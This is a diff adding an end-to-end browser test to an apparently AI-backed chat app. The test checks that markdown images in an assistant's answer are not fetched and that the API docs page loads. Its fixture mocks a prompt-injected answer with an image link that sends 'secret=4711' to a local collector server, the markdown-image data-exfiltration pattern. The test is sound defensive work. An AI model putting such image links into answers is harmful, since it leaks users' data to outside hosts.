@@ -5,6 +5,7 @@
 // themes, and a phone-sized chat).
 import assert from 'node:assert/strict'
 import { readFileSync } from 'node:fs'
+import { createServer } from 'node:http'
 import { after, before, test } from 'node:test'
 import { ADMIN, adminToken, api, openPage, shot, start } from './harness.mjs'
 
@@ -265,4 +266,49 @@ test('the chat works on a phone-sized screen', async () => {
   await shot(page, '14-phone-chat-zh')
   assert.deepEqual(problems, [])
   await context.close()
+})
+
+test("an answer's images are not fetched, and the API docs load under the page policy", async () => {
+  // A collector, standing for a site a prompt-injected answer would send data to.
+  const hits = []
+  const collector = createServer((request, response) => {
+    hits.push(request.url)
+    response.end('')
+  })
+  await new Promise((done) => collector.listen(0, '127.0.0.1', done))
+  const leak = `http://127.0.0.1:${collector.address().port}/collect?secret=4711`
+  const { page, context, problems } = await newPage()
+  try {
+    await mockProfile('e2e', { chunks: 6, interval: 0.01, text: `Here it is: ![the chart](${leak}) done.` })
+    const signUp = await fetch(`${h.base}/api/auth/register`, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: JSON.stringify({ username: 'imagetest', password: 'correct horse battery' }),
+    })
+    assert.equal(signUp.status, 201)
+    await page.goto(`${h.base}/login`)
+    await page.fill('input[name=username]', 'imagetest')
+    await page.fill('input[name=password]', 'correct horse battery')
+    await page.click('[data-test=login-submit]')
+    await page.waitForSelector('[data-test=composer]')
+    await page.fill('[data-test=composer]', 'Show me the chart')
+    await page.keyboard.press('Enter')
+    await page.waitForSelector('[data-test=assistant-message] a[data-image]')
+    const answer = lastAnswer(page)
+    assert.equal(await answer.locator('img').count(), 0)
+    assert.equal(await answer.locator('a[data-image]').getAttribute('href'), leak)
+    await shot(page, '13-remote-image-as-link')
+    await page.waitForTimeout(300)
+    assert.deepEqual(hits, [], 'the browser fetched nothing from the answer')
+
+    await page.goto(`${h.base}/docs`)
+    await page.waitForSelector('.swagger-ui .info .title')
+    await page.waitForSelector('.opblock-summary-path[data-path="/v1/chat/completions"]')
+    await shot(page, '14-api-docs')
+    assert.deepEqual(problems, [])
+  } finally {
+    await context.close()
+    collector.close()
+    await mockProfile('e2e', { chunks: 60, interval: 0.01, reasoning: 2, text: REPLY_WORDS })
+  }
 })
